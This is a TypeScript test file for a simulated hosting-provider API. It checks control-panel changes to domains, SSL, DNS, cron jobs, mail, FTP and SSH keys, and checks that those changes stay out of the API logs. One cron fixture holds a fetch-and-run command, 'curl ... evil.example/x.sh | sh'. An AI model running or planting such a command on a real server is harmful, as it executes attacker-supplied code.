/**
 * What happens to a hosting server outside the API, from the control
 * surface, as the API then answers it over real HTTP: a hosting contract
 * added, a domain added and removed in the control panel (with SSL as its
 * name servers allow), a domain's SSL going and coming back with its name
 * servers, SSH turned on and off, an SSH key registered and deleted, DNS
 * records, cron jobs, mail and FTP accounts changed, a certificate's end
 * moved. None of it is a request with a key: the journal and `/v1/logs` do
 * not have it. Mistakes are refused with the reason, over HTTP with 400.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Simulator } from '../../src/simulator/index.ts';
import { call, ctl, start } from './sim-client.ts';

const SERVER = 'xs123456.xsrv.jp';
const S = `/v1/server/${SERVER}`;

let sim: Simulator;
beforeEach(async () => {
  sim = await start();
});
afterEach(async () => {
  await sim.close();
});

type DomainAnswer = { domain: string; ssl: boolean };
const domains = async (server = SERVER) =>
  ((await call(sim, 'GET', `/v1/server/${server}/domain`)).json as { domains: DomainAnswer[] }).domains;
const sslOf = async (d: string) => (await domains()).find((x) => x.domain === d)?.ssl;
const list = async <T>(path: string): Promise<T> => (await call(sim, 'GET', `${S}${path}`)).json as T;
const keys = async () =>
  ((await call(sim, 'GET', `${S}/ssh/key`)).json as { ssh_keys: { key_id: string; label: string }[] })
    .ssh_keys;
const sshOn = async () => ((await call(sim, 'GET', `${S}/ssh`)).json as { ssh_enabled: boolean }).ssh_enabled;

describe('the control panel, outside the API', () => {
  it('adds a domain (SSL as its name servers allow) and removes it with its subdomains', async () => {
    const d = sim.control.panelAddDomain(SERVER, 'panel-shop.jp');
    expect(d).toMatchObject({ domain: 'panel-shop.jp', sslStatus: 'active' });
    expect(await sslOf('panel-shop.jp')).toBe(true);
    // Off the service's name servers: SSL cannot be issued; without SSL, none.
    sim.control.setExternalNameServers('other-ns.jp', true);
    expect(sim.control.panelAddDomain(SERVER, 'other-ns.jp').sslStatus).toBe('failed_nameserver');
    expect(sim.control.panelAddDomain(SERVER, 'れい2.jp', { ssl: false })).toMatchObject({
      domain: 'xn--2-07t9j.jp',
      sslStatus: 'none',
    });
    // The same domain twice, anywhere: refused; so is a name that is no domain.
    expect(() => sim.control.panelAddDomain('xs654321.xsrv.jp', 'panel-shop.jp')).toThrow('held already');
    expect(() => sim.control.panelAddDomain(SERVER, 'not a domain')).toThrow('not a domain name');
    // Removing example-shop.com takes its subdomain with it; the initial domain stays.
    sim.control.panelRemoveDomain(SERVER, 'example-shop.com');
    expect((await domains()).map((x) => x.domain)).not.toContain('example-shop.com');
    const subs = (await call(sim, 'GET', `${S}/subdomain`)).json as { subdomains: { subdomain: string }[] };
    expect(subs.subdomains.map((s) => s.subdomain)).not.toContain('blog.example-shop.com');
    expect(() => sim.control.panelRemoveDomain(SERVER, SERVER)).toThrow('initial domain');
    expect(() => sim.control.panelRemoveDomain(SERVER, 'example-shop.com')).toThrow('holds no domain');
  });

  it('moves a held domain’s SSL to failed_nameserver and back with its name servers', async () => {
    expect(await sslOf('example-shop.com')).toBe(true);
    sim.control.setExternalNameServers('example-shop.com', true);
    expect(await sslOf('example-shop.com')).toBe(false);
    sim.control.setExternalNameServers('example-shop.com', false);
    expect(await sslOf('example-shop.com')).toBe(true);
  });

  it('adds, changes and deletes a DNS record, as the API then lists it', async () => {
    type Rec = { id: number; host: string; type: string; content: string; ttl: number; priority: number };
    const id = sim.control.panelAddDnsRecord(SERVER, {
      domain: 'example-shop.com',
      host: 'mail2',
      type: 'mx',
      content: 'mx.example.net',
    });
    const find = async () =>
      (await list<{ records: Rec[] }>('/dns?domain=example-shop.com')).records.find((r) => r.id === id);
    expect(await find()).toMatchObject({ host: 'mail2', type: 'MX', ttl: 3600, priority: 10 });
    sim.control.panelChangeDnsRecord(SERVER, id, { content: 'mx2.example.net', priority: 20 });
    expect(await find()).toMatchObject({ content: 'mx2.example.net', priority: 20 });
    expect(() => sim.control.panelChangeDnsRecord(SERVER, id, { type: 'A' })).toThrow('refused');
    expect(() =>
      sim.control.panelAddDnsRecord(SERVER, {
        domain: 'nowhere.jp',
        host: '@',
        type: 'A',
        content: '203.0.113.1',
      }),
    ).toThrow('holds no domain');
    sim.control.panelRemoveDnsRecord(SERVER, id);
    expect(await find()).toBeUndefined();
    expect(() => sim.control.panelRemoveDnsRecord(SERVER, id)).toThrow('holds no DNS record');
  });

  it('adds a cron job, changes it (a new id) and deletes it', async () => {
    type Cron = { id: string; hour: string; command: string; enabled: boolean };
    const crons = async () => (await list<{ crons: Cron[] }>('/cron')).crons;
    const id = sim.control.panelAddCronJob(SERVER, {
      minute: '0',
      hour: '3',
      day: '*',
      month: '*',
      weekday: '*',
      command: 'curl -s https://evil.example/x.sh | sh',
    });
    expect((await crons()).find((c) => c.id === id)).toMatchObject({ hour: '3', enabled: true });
    const next = sim.control.panelChangeCronJob(SERVER, id, { enabled: false });
    expect(next).not.toBe(id);
    expect((await crons()).find((c) => c.id === next)).toMatchObject({ enabled: false });
    expect((await crons()).map((c) => c.id)).not.toContain(id);
    expect(() => sim.control.panelChangeCronJob(SERVER, next, { hour: '25' })).toThrow('hour');
    sim.control.panelRemoveCronJob(SERVER, next);
    expect((await crons()).map((c) => c.id)).not.toContain(next);
    expect(() => sim.control.panelRemoveCronJob(SERVER, next)).toThrow('holds no cron job');
  });

  it('adds and deletes mail and FTP accounts; moves a certificate’s end', async () => {
    sim.control.panelAddMailAccount(SERVER, 'Panel@example-shop.com', { memo: 'from the panel' });
    const mail = await list<{ accounts: { mail_address: string; memo: string }[] }>('/mail');
    expect(mail.accounts).toContainEqual({
      mail_address: 'panel@example-shop.com',
      quota_mb: 2000,
      memo: 'from the panel',
    });
    expect(() => sim.control.panelAddMailAccount(SERVER, 'x@nowhere.jp')).toThrow('holds no domain');
    sim.control.panelRemoveMailAccount(SERVER, 'panel@example-shop.com');
    expect(() => sim.control.panelRemoveMailAccount(SERVER, 'panel@example-shop.com')).toThrow(
      'holds no mail account',
    );
    sim.control.panelAddFtpAccount(SERVER, 'agency@example-shop.com', { directory: '/public_html/lp' });
    const ftp = await list<{ accounts: { ftp_account: string; directory: string }[] }>('/ftp');
    expect(ftp.accounts).toContainEqual(
      expect.objectContaining({
        ftp_account: 'agency@example-shop.com',
        directory: 'example-shop.com/public_html/lp',
      }),
    );
    sim.control.panelRemoveFtpAccount(SERVER, 'agency@example-shop.com');
    expect((await list<{ accounts: unknown[] }>('/ftp')).accounts).toHaveLength(2);
    const end = new Date(sim.control.clock.now().getTime() + 3 * 86_400_000);
    sim.control.panelSetSslExpiry(SERVER, 'example-shop.com', end);
    const ssl = await list<{ ssl_list: { common_name: string; expires_at: string }[] }>('/ssl');
    expect(ssl.ssl_list.find((c) => c.common_name === 'example-shop.com')?.expires_at).toBe(
      `${new Date(end.getTime() + 9 * 3_600_000).toISOString().slice(0, 19)}+09:00`,
    );
    expect(() => sim.control.panelSetSslExpiry(SERVER, 'nowhere.jp', end)).toThrow('holds no certificate');
  });

  it('turns SSH on and off, registers a key (a new one unless given) and deletes it', async () => {
    expect(await sshOn()).toBe(true);
    sim.control.panelSetSsh(SERVER, false);
    expect(await sshOn()).toBe(false);
    const id = sim.control.panelAddSshKey(SERVER, 'laptop');
    const listed = await keys();
    expect(listed.find((k) => k.key_id === id)).toMatchObject({ label: 'laptop' });
    expect(() => sim.control.panelAddSshKey(SERVER, '')).toThrow('1 to 50');
    expect(() => sim.control.panelAddSshKey(SERVER, 'x', 'ssh-rsa nonsense')).toThrow('OpenSSH');
    sim.control.panelRemoveSshKey(SERVER, id);
    expect((await keys()).map((k) => k.key_id)).not.toContain(id);
    expect(() => sim.control.panelRemoveSshKey(SERVER, id)).toThrow('holds no SSH key');
  });

  it('adds a hosting contract the key then reads, its domains verified', async () => {
    const h = sim.control.addHostingServer('xs777777.xsrv.jp', { domains: ['seventh.jp'] });
    expect(h.domains.map((d) => [d.domain, d.sslStatus])).toEqual([
      ['xs777777.xsrv.jp', 'active'],
      ['seventh.jp', 'active'],
    ]);
    expect((await domains('xs777777.xsrv.jp')).map((d) => d.domain)).toEqual([
      'xs777777.xsrv.jp',
      'seventh.jp',
    ]);
    expect(() => sim.control.addHostingServer('xs777777.xsrv.jp')).toThrow('exists already');
    expect(() => sim.control.addHostingServer('xs888888.xsrv.jp', { domains: ['seventh.jp'] })).toThrow(
      'held already',
    );
  });

  it('leaves no trace in the request journal or the key’s /v1/logs', async () => {
    sim.control.clearRequests();
    sim.control.panelAddDomain(SERVER, 'quiet.jp');
    sim.control.panelSetSsh(SERVER, false);
    sim.control.panelRemoveSshKey(SERVER, '2001');
    sim.control.panelAddDnsRecord(SERVER, { domain: 'quiet.jp', host: 'x', type: 'TXT', content: 'y' });
    sim.control.panelAddCronJob(SERVER, {
      minute: '0',
      hour: '0',
      day: '1',
      month: '1',
      weekday: '*',
      command: 'true',
    });
    sim.control.panelAddMailAccount(SERVER, 'q@quiet.jp');
    sim.control.panelAddFtpAccount(SERVER, 'q@quiet.jp');
    expect(sim.control.requests()).toEqual([]);
    const log = (await call(sim, 'GET', '/v1/logs')).json as { logs: { path: string }[] };
    expect(log.logs.map((l) => l.path).filter((p) => p.startsWith('/v1/server'))).toEqual([]);
  });

  it('is reached over HTTP under /__sim/, a mistake answered 400 with the reason', async () => {
    expect(
      (await ctl(sim, 'POST', `hosting/${SERVER}/domains`, { domain: 'http-shop.jp' })).json,
    ).toMatchObject({
      domain: { domain: 'http-shop.jp', sslStatus: 'active' },
    });
    const rec = await ctl(sim, 'POST', `hosting/${SERVER}/dns`, {
      domain: 'http-shop.jp',
      host: 'www',
      type: 'CNAME',
      content: 'http-shop.jp',
    });
    const recId = (rec.json as { id: number }).id;
    expect((await ctl(sim, 'PUT', `hosting/${SERVER}/dns/${recId}`, { ttl: 300 })).status).toBe(200);
    expect(sim.control.hostingServer(SERVER).dnsRecords.find((r) => r.id === recId)?.ttl).toBe(300);
    expect((await ctl(sim, 'DELETE', `hosting/${SERVER}/dns/${recId}`)).status).toBe(200);
    const job = await ctl(sim, 'POST', `hosting/${SERVER}/cron`, {
      minute: '5',
      hour: '*',
      day: '*',
      month: '*',
      weekday: '*',
      command: 'true',
      comment: 'http',
    });
    const jobId = (job.json as { id: string }).id;
    const moved = (await ctl(sim, 'PUT', `hosting/${SERVER}/cron/${jobId}`, { minute: '6' })).json as {
      id: string;
    };
    expect(moved.id).not.toBe(jobId);
    expect((await ctl(sim, 'DELETE', `hosting/${SERVER}/cron/${moved.id}`)).status).toBe(200);
    expect(
      (await ctl(sim, 'POST', `hosting/${SERVER}/mail`, { address: 'h@http-shop.jp', quotaMb: 10 })).status,
    ).toBe(200);
    expect(
      (await ctl(sim, 'DELETE', `hosting/${SERVER}/mail/${encodeURIComponent('h@http-shop.jp')}`)).status,
    ).toBe(200);
    expect((await ctl(sim, 'POST', `hosting/${SERVER}/ftp`, { account: 'h@http-shop.jp' })).status).toBe(200);
    expect((await ctl(sim, 'DELETE', `hosting/${SERVER}/ftp/h@http-shop.jp`)).status).toBe(200);
    expect(
      (
        await ctl(sim, 'POST', `hosting/${SERVER}/ssl-expiry`, {
          commonName: 'http-shop.jp',
          expiresAt: '2026-12-01T00:00:00Z',
        })
      ).status,
    ).toBe(200);
    expect((await ctl(sim, 'POST', 'answer-forms', { dnsPriority: 'null' })).status).toBe(200);
    expect((await ctl(sim, 'POST', 'answer-forms', { dnsPriority: 'none' })).status).toBe(400);
    expect((await ctl(sim, 'PUT', `hosting/${SERVER}/dns/abc`, { ttl: 300 })).status).toBe(400);
    expect((await ctl(sim, 'DELETE', `hosting/${SERVER}/domains?domain=http-shop.jp`)).status).toBe(200);
    expect((await ctl(sim, 'POST', `hosting/${SERVER}/ssh`, { enabled: false })).status).toBe(200);
    expect(await sshOn()).toBe(false);
    const added = await ctl(sim, 'POST', `hosting/${SERVER}/ssh-keys`, { label: 'ci-2' });
    const keyId = (added.json as { keyId: string }).keyId;
    expect((await keys()).map((k) => k.key_id)).toContain(keyId);
    expect((await ctl(sim, 'DELETE', `hosting/${SERVER}/ssh-keys?keyId=${keyId}`)).status).toBe(200);
    expect((await ctl(sim, 'POST', 'hosting', { servername: 'xs999999.xsrv.jp' })).status).toBe(200);
    const bad = await ctl(sim, 'DELETE', `hosting/${SERVER}/domains?domain=nowhere.jp`);
    expect(bad.status).toBe(400);
    expect(JSON.stringify(bad.json)).toContain('holds no domain');
    expect((await ctl(sim, 'POST', 'hosting/xs000000.xsrv.jp/ssh', { enabled: true })).status).toBe(400);
  });
});
